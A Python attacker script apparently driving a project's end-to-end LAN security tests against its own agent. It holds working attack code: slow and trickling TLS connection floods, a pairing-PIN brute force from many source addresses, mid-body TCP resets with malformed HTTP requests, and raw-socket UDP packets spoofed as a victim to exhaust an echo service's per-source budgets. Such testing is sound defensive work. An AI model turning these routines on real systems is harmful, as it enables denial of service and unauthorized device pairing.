"""The attacks of the LAN security tests, run in the attacker's namespace (or, for ``local-rpc``,
as another program on the master). Not a test; ``tests/e2e/test_lan_attacks.py`` runs it.

    python attacker.py keepalive HOST PORT SRC[,SRC…] PER_SOURCE INTERVAL
        PER_SOURCE TLS connections from each source address to the agent's API, each sending
        a request every INTERVAL seconds (one in three instead trickles a POST body, a byte a
        second); a connection the agent closes is opened again at once. Prints one JSON line a
        second: connections open now, those answered or trickling for a second or more, and
        counts.
    python attacker.py pinburn URL SRC[,SRC…]
        From every source at once, without pause: pair/start with a random 10-digit guess, and
        pair/finish when an exchange was started (burning a guess). Prints one JSON line every
        half second with what the agent answered.
    python attacker.py resets HOST PORT SECONDS
        For SECONDS: POSTs whose body stops half-way and whose connection is reset, and
        malformed requests. Prints a JSON line with how many of each were sent.
    python attacker.py echo-flush AGENT ECHO VICTIM VICTIM_PORT SECONDS
        Spoofed echo requests "from" VICTIM:VICTIM_PORT, in bursts, each followed by requests from
        1,100 other forged sources — so that an echo that forgets the oldest of 1,024 budgets
        gives the victim a full burst again. Needs root (a raw socket).
    python attacker.py local-rpc PORT
        Connect to 127.0.0.1:PORT (a master's forwarder), send an RPC HELLO, and report within
        5 s whether the connection was closed and what came back.
    python attacker.py count HOST PORT[,PORT…]
        Listen on HOST at each PORT (a ggml-rpc-server's place, say) and count the connections
        made to it, accepting and closing each. Prints ``{"listening": true}`` once ready and
        then one JSON line of counts every 0.2 s.

Every loop is bounded by its caller: the test stops the process (or SECONDS does).
"""

from __future__ import annotations

import asyncio
import json
import os
import random
import socket
import ssl
import struct
import sys
import time


def _tls() -> ssl.SSLContext:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


def _say(**kw) -> None:
    print(json.dumps(kw), flush=True)


# --- keep-alive and trickling connections ------------------------------------------------------

async def keepalive(host: str, port: int, sources: list[str], per_source: int, interval: float) -> None:
    ctx = _tls()
    stats = {"open": 0, "held": 0, "connects": 0, "failed": 0, "answers": 0}
    request = f"GET /api/v1/info HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    trickle_head = (f"POST /api/v1/pair/start HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
                    "Content-Length: 100000\r\n\r\n").encode()

    async def read_response(reader: asyncio.StreamReader) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        length = 0
        for line in head.split(b"\r\n"):
            if line.lower().startswith(b"content-length:"):
                length = int(line.split(b":", 1)[1])
        await reader.readexactly(length)

    async def one(src: str, trickle: bool) -> None:
        while True:
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(
                    host, port, ssl=ctx, server_hostname="", local_addr=(src, 0)), 15)
            except (OSError, ssl.SSLError, asyncio.TimeoutError):
                stats["failed"] += 1
                await asyncio.sleep(0.2)
                continue
            stats["connects"] += 1
            stats["open"] += 1
            held = False
            try:
                if trickle:
                    writer.write(trickle_head)
                    closed = asyncio.ensure_future(reader.read())
                    started = time.monotonic()
                    while not closed.done():
                        if not held and time.monotonic() - started >= 1.0:
                            held = True
                            stats["held"] += 1
                        writer.write(b" ")
                        await asyncio.wait([closed], timeout=1.0)
                else:
                    while True:
                        writer.write(request)
                        await asyncio.wait_for(read_response(reader), 15)
                        stats["answers"] += 1
                        if not held:
                            held = True
                            stats["held"] += 1
                        await asyncio.sleep(interval)
            except (OSError, ssl.SSLError, asyncio.IncompleteReadError, asyncio.LimitOverrunError,
                    asyncio.TimeoutError, ValueError):
                pass
            finally:
                stats["open"] -= 1
                if held:
                    stats["held"] -= 1
                writer.transport.abort()
            await asyncio.sleep(0.2)

    tasks = [asyncio.ensure_future(one(src, i % 3 == 2)) for src in sources for i in range(per_source)]
    while True:
        _say(**stats)
        await asyncio.sleep(1.0)
    del tasks


# --- burning the PIN's guesses ------------------------------------------------------------------

async def pinburn(url: str, sources: list[str]) -> None:
    import httpx

    from agent.identity import load_or_create
    from agent.pairing import MasterExchange

    me = load_or_create(__import__("pathlib").Path(os.environ["ATTACKER_DIR"]), "attacker", "attacker")
    stats = {"no_pin": 0, "locked": 0, "started": 0, "wrong": 0, "paired": 0, "errors": 0}

    async def one(src: str) -> None:
        transport = httpx.AsyncHTTPTransport(local_address=src, verify=_tls())
        async with httpx.AsyncClient(base_url=url, transport=transport, timeout=30) as h:
            ex = MasterExchange(f"{random.randrange(10 ** 10):010d}", me.cert_der)
            while True:
                try:
                    r = await h.post("/api/v1/pair/start", json={"msg": ex.msg_a.hex()})
                    if r.status_code == 403:
                        stats["no_pin"] += 1
                    elif r.status_code == 429:
                        stats["locked"] += 1
                    elif r.status_code == 200:
                        stats["started"] += 1
                        body = r.json()
                        mac = ex.finish(bytes.fromhex(body["msg"]))
                        r = await h.post("/api/v1/pair/finish", json={
                            "session": body["session"], "cert": me.cert_pem.decode(), "mac": mac.hex()})
                        stats["paired" if r.status_code == 200 else "wrong"] += 1
                        ex = MasterExchange(f"{random.randrange(10 ** 10):010d}", me.cert_der)
                        continue
                    else:
                        stats["errors"] += 1
                except (httpx.HTTPError, ValueError, KeyError):
                    stats["errors"] += 1
                await asyncio.sleep(0.05)

    tasks = [asyncio.ensure_future(one(src)) for src in sources]
    while True:
        _say(**stats)
        await asyncio.sleep(0.5)
    del tasks


# --- resets mid-body and malformed requests ----------------------------------------------------

async def resets(host: str, port: int, seconds: float) -> None:
    ctx = _tls()
    stats = {"resets": 0, "malformed": 0, "failed": 0}
    end = time.monotonic() + seconds
    head = (f"POST /api/v1/pair/start HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
            "Content-Length: 50000\r\n\r\n").encode()
    junk = [b"GET /api/v1/info HTTP/9.9\r\n\r\n", b"\x00\x01\x02 nonsense\r\n\r\n",
            b"GET /api/v1/info HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n",
            b"POST /api/v1/pair/start HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n"]

    async def one(i: int) -> None:
        n = i
        while time.monotonic() < end:
            n += 1
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(
                    host, port, ssl=ctx, server_hostname=""), 10)
            except (OSError, ssl.SSLError, asyncio.TimeoutError):
                stats["failed"] += 1
                await asyncio.sleep(0.05)
                continue
            sock = writer.get_extra_info("socket")
            if n % 4:
                writer.write(head + b"{" + b" " * 20000)
                try:
                    await asyncio.wait_for(writer.drain(), 5)
                    await asyncio.sleep(0.05)  # the agent is reading the body now
                except (OSError, asyncio.TimeoutError):
                    pass
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                writer.transport.abort()  # a TCP reset, half-way through the body
                stats["resets"] += 1
            else:
                writer.write(junk[n % len(junk)])
                try:
                    await asyncio.wait_for(reader.read(), 5)
                except (OSError, ssl.SSLError, asyncio.TimeoutError):
                    pass
                writer.transport.abort()
                stats["malformed"] += 1

    await asyncio.gather(*(one(i) for i in range(16)))
    _say(**stats)


# --- flushing the echo's per-source budgets ----------------------------------------------------

def _udp_packet(src: tuple[str, int], dst: tuple[str, int], payload: bytes) -> bytes:
    udp = struct.pack("!HHHH", src[1], dst[1], 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                     socket.inet_aton(src[0]), socket.inet_aton(dst[0]))
    return ip + udp


def echo_flush(agent: str, echo: int, victim: str, victim_port: int, seconds: float) -> None:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    as_victim = [_udp_packet((victim, victim_port), (agent, echo), b"herd-echo?" + i.to_bytes(4, "big"))
                 for i in range(25)]
    # other forged sources, outside any subnet of the LAN (replies to them go nowhere)
    others = [_udp_packet((f"198.18.{i // 250}.{1 + i % 250}", 40000), (agent, echo), b"herd-echo?x")
              for i in range(1100)]
    end = time.monotonic() + seconds
    sent = rounds = 0
    while time.monotonic() < end:
        for pkt in as_victim:
            raw.sendto(pkt, (agent, 0))
        # paced, so that the echo's receive buffer does not overflow and drop them
        for i in range(0, len(others), 50):
            for pkt in others[i:i + 50]:
                raw.sendto(pkt, (agent, 0))
            time.sleep(0.002)
        sent += len(as_victim) + len(others)
        rounds += 1
    _say(sent=sent, rounds=rounds, as_victim=rounds * len(as_victim))


# --- a local program on the master ------------------------------------------------------------

def local_rpc(port: int) -> None:
    from agent import rpc_protocol

    started = time.monotonic()
    got = b""
    closed = False
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        try:
            s.sendall(rpc_protocol.pack_request(rpc_protocol.CMD_HELLO))
            while time.monotonic() - started < 5:
                chunk = s.recv(4096)
                if not chunk:
                    closed = True
                    break
                got += chunk
        except socket.timeout:
            pass
        except OSError:
            closed = True
    _say(closed=closed, bytes=len(got), seconds=round(time.monotonic() - started, 3))


# --- a host that counts who comes to it -------------------------------------------------------

async def count(host: str, ports: list[int]) -> None:
    counts = {str(p): 0 for p in ports}

    def handler(port: int):
        async def on_connect(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            counts[str(port)] += 1
            writer.close()
        return on_connect

    servers = [await asyncio.start_server(handler(p), host, p) for p in ports]
    _say(listening=True)
    try:
        while True:
            await asyncio.sleep(0.2)
            _say(connections=sum(counts.values()), by_port=counts)
    finally:
        for s in servers:
            s.close()


def main() -> None:
    mode, args = sys.argv[1], sys.argv[2:]
    if mode == "keepalive":
        asyncio.run(keepalive(args[0], int(args[1]), args[2].split(","), int(args[3]), float(args[4])))
    elif mode == "pinburn":
        asyncio.run(pinburn(args[0], args[1].split(",")))
    elif mode == "resets":
        asyncio.run(resets(args[0], int(args[1]), float(args[2])))
    elif mode == "echo-flush":
        echo_flush(args[0], int(args[1]), args[2], int(args[3]), float(args[4]))
    elif mode == "local-rpc":
        local_rpc(int(args[0]))
    elif mode == "count":
        asyncio.run(count(args[0], [int(p) for p in args[1].split(",")]))
    else:
        raise SystemExit(f"unknown attack {mode!r}")


if __name__ == "__main__":
    main()
